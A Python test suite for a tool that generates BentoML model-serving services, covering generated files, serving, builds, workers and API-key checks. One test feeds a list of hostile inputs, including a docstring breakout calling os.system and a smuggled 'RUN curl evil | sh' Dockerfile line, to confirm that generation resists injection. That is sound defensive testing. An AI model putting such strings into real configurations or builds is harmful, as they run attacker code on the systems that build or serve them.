"""The BentoML service that is generated: its files, BentoML's own commands on them, and what is said without it."""

from __future__ import annotations

import ast
import importlib.util
import json
import os
import shutil
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml
from server_launcher import Launcher, Process, Running, generate
from serving_support import LATE, MODEL, ROOT, Project, send, wait_for
from toy_project import free_port

from mvops import __version__, backends
from mvops.contracts.servers import Server, Service
from mvops.errors import MissingExtraError, ServingError
from mvops.serving.client import EndpointClient

SERVER: Server = backends.load("servers", "bentoml")


def service(**changes: object) -> Service:
    plain = {
        "model": "churn",
        "description": "Will they leave?",
        "host": "127.0.0.1",
        "port": 8123,
        "max_rows": 50,
        "state": ".mvops/serving/churn",
        "artifacts": ".mvops/artifacts",
        "predictions": "sqlite:///.mvops/predictions.db",
        "python": "3.11",
        "requirements": ("scikit-learn==1.6.1", "pandas==2.2.3"),
    }
    return Service.model_validate(plain | changes)


PLAIN = SERVER.files(service())


def test_the_files_are_where_fastapis_are_with_a_service_and_a_build_file() -> None:
    assert SERVER.folder("churn") == backends.load("servers", "fastapi").folder("churn")
    assert sorted(PLAIN) == [
        *(
            "Dockerfile",
            "Dockerfile.dockerignore",
            "README.md",
            "bentofile.yaml",
            "loadtest.py",
            "requirements.txt",
            "service.json",
            "service.py",
        ),
    ]
    assert PLAIN["service.json"] == backends.load("servers", "fastapi").files(service())["service.json"]
    assert PLAIN["requirements.txt"].splitlines()[1:] == [
        f"mvops[bentoml]=={__version__}",
        "scikit-learn==1.6.1",
        "pandas==2.2.3",
    ]
    on_s3 = SERVER.files(service(extras=("postgres", "s3")))
    assert f"mvops[bentoml,postgres,s3]=={__version__}\n" in on_s3["requirements.txt"]
    assert "AWS_ACCESS_KEY_ID" in on_s3["Dockerfile"]
    build = yaml.safe_load(PLAIN["bentofile.yaml"])
    assert (build["service"], build["name"]) == ("service:Endpoint", "churn")
    assert build["docker"]["python_version"] == "3.11"
    assert ast.get_docstring(ast.parse(PLAIN["service.py"]))


HOSTILE = ['x"""\nimport os\nos.system("id")\n"""', "{{ 7 * 7 }}{% raw %}", "a\nRUN curl evil | sh", "\\", "日本語 🚀"]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_changes_no_shape(text: str) -> None:
    files = SERVER.files(service(description=text, predictions=text, requirements=(text, "pandas==2.2.3")))
    assert files["service.py"] == PLAIN["service.py"]
    assert files["bentofile.yaml"] == PLAIN["bentofile.yaml"]
    assert files["Dockerfile"] == PLAIN["Dockerfile"]
    assert json.loads(files["service.json"])["predictions"] == text
    assert len(files["requirements.txt"].splitlines()) == len(PLAIN["requirements.txt"].splitlines())


@pytest.mark.parametrize(("host", "told"), [("0.0.0.0", "0.0.0.0"), ("::1", "::1"), ("models.internal", "127.0.0.1")])
def test_bentoml_is_told_an_address_as_it_takes_no_names(host: str, told: str) -> None:
    assert f'"host": {told!r}' in SERVER.files(service(host=host))["service.py"]


@pytest.mark.skipif(importlib.util.find_spec("bentoml") is not None, reason="BentoML is installed beside mvops")
def test_where_bentoml_is_missing_the_extra_is_named(tmp_path: Path) -> None:
    with pytest.raises(MissingExtraError, match=r"The server 'bentoml' needs.*\nInstall it with: .*'mvops\[bentoml\]'"):
        SERVER.serve(tmp_path, host="127.0.0.1", port=0, workers=1, on_ready=print)


@pytest.fixture
def bentoml(outside: Callable[[str], Path]) -> Path:
    """The folder of BentoML's programs."""
    return outside("bentoml")


@pytest.fixture
def run(bentoml: Path) -> Iterator[Callable[..., Process]]:
    """Starts a command of BentoML's environment in a folder."""
    made: list[Process] = []

    def begin(folder: Path, *command: str, **environment: str) -> Process:
        made.append(Process([str(bentoml / command[0]), *command[1:]], folder, **environment))
        return made[-1]

    yield begin
    for process in made:
        process.close()


@pytest.fixture
def project(tmp_path: Path, dumped: Callable[[str], bytes]) -> Project:
    made = Project(tmp_path, dumped)
    made.version(1)
    made.route(1, champion=1)
    return made


@pytest.fixture(scope="session")
def dumped() -> Callable[[str], bytes]:
    from serving_support import classifier

    from mvops.artifacts.models import dump_model

    made = dump_model(classifier())[0]
    return lambda _: made


def ready(url: str, process: Process) -> EndpointClient:
    client = EndpointClient(url, timeout=30)
    try:
        client.ready(timeout=120)
    except ServingError as error:
        raise AssertionError(process.said) from error
    return client


@pytest.mark.system
@pytest.mark.real("servers", "bentoml", "`bentoml serve` and `bentoml build`")
def test_bentomls_own_commands_serve_and_build_it(project: Project, run: Callable[..., Process]) -> None:
    project.settings["drain_delay"] = 1.0
    folder = generate("bentoml", project)
    home = {"BENTOML_HOME": str(project.root / "home")}
    port = free_port()
    serving = run(folder, "bentoml", "serve", "service:Endpoint", "--port", str(port), **home)
    client = ready(f"http://127.0.0.1:{port}", serving)
    ids = list(client.predict([LATE]).prediction_ids)
    for probe in ("/livez", "/readyz", "/healthz"):
        assert send(port, "GET", probe)[0].status == 200
    serving.send(signal.SIGTERM)
    assert wait_for(lambda: send(port, "GET", "/readyz")[0].status == 503, 5)  # not ready, and still answering
    ids += client.predict([LATE]).prediction_ids
    assert serving.ended() == 0, serving.said
    assert project.logged_ids() == ids
    assert list(project.spool.iterdir()) == []

    building = run(folder, "bentoml", "build", "--version", "v1", **home)
    assert building.ended(120) == 0, building.said
    bento = project.root / "home/bentos" / MODEL / "v1"
    assert sorted(path.name for path in (bento / "src").iterdir()) == ["bentofile.yaml", "service.json", "service.py"]
    shutil.rmtree(folder)  # a Bento needs the project's state, not its folder
    port = free_port()
    elsewhere = {**home, "MVOPS_ROOT": str(project.root)}
    serving = run(project.root, "bentoml", "serve", f"{MODEL}:v1", "--port", str(port), **elsewhere)
    ids += ready(f"http://127.0.0.1:{port}", serving).predict([LATE]).prediction_ids
    serving.send(signal.SIGINT)
    assert serving.ended() == 0, serving.said
    assert project.logged_ids() == ids


@pytest.mark.system
@pytest.mark.real("servers", "bentoml", "two workers under BentoML's supervisor")
def test_workers_share_the_port_the_log_and_their_counts(project: Project, bentoml: Path) -> None:
    launcher = Launcher("bentoml", str(bentoml / "python"))
    try:
        running: Running = launcher.start(project, workers=2)
        assert wait_for(lambda: len([path for path in project.spool.iterdir() if path.is_dir()]) == 2, 60)
        ids = [name for _ in range(40) for name in running.client.predict([LATE]).prediction_ids]
        assert wait_for(lambda: running.client.rollout().arms[0].requests == 40, 10)
        running.process.send(signal.SIGTERM)
        assert running.process.ended() == 0, running.process.said
    finally:
        launcher.close()
    assert sorted(project.logged_ids()) == sorted(ids)
    assert list(project.spool.iterdir()) == []


@pytest.mark.system
def test_what_the_team_adds_to_the_service_is_served_and_asks_for_the_key_too(
    project: Project, bentoml: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = {"X-API-Key": "team-key-0123456789"}
    monkeypatch.setenv("TEAM_KEY", key["X-API-Key"])
    project.settings["auth"] = {"keys": [{"secret": "TEAM_KEY"}]}
    folder = generate("bentoml", project)
    own = (folder / "service.py").read_text()
    own += '\n    @bentoml.api(route="/double")\n    def double(self, x: int) -> int:\n        return 2 * x\n'
    own += '\n\n@app.get("/team")\ndef team() -> dict[str, str]:\n    return {"owner": "ops"}\n'
    launcher = Launcher("bentoml", str(bentoml / "python"))
    try:
        running = launcher.start(project, edit=lambda: (folder / "service.py").write_text(own))
        assert send(running.port, "GET", "/team")[0].status == 401
        assert send(running.port, "POST", "/double", '{"x": 4}')[0].status == 401
        assert send(running.port, "GET", "/team", None, key)[1] == b'{"owner":"ops"}'
        assert send(running.port, "POST", "/double", '{"x": 4}', key)[1] == b"8"
        assert EndpointClient(running.url, key=key["X-API-Key"]).predict([LATE]).predictions == (1,)
    finally:
        launcher.close()


@pytest.mark.system
def test_a_service_that_is_broken_is_told_with_its_line(project: Project, bentoml: Path) -> None:
    folder = generate("bentoml", project)
    (folder / "service.py").write_text("import os\n\n1 / 0\n")
    script = (
        "import sys; from pathlib import Path; from mvops import backends\n"
        "try: backends.load('servers', 'bentoml').serve("
        "Path(sys.argv[1]), host='127.0.0.1', port=0, workers=1, on_ready=print)\n"
        "except Exception as error: print(type(error).__name__, error)\n"
    )
    environment = os.environ | {"PYTHONPATH": str(ROOT), "BENTOML_HOME": str(project.root / "home")}
    command = [str(bentoml / "python"), "-c", script, str(folder)]
    told = subprocess.run(command, capture_output=True, text=True, check=True, env=environment).stdout
    assert told.startswith(
        f"ServingError {folder / 'service.py'}:3: ZeroDivisionError: division by zero\nMend the file"
    )
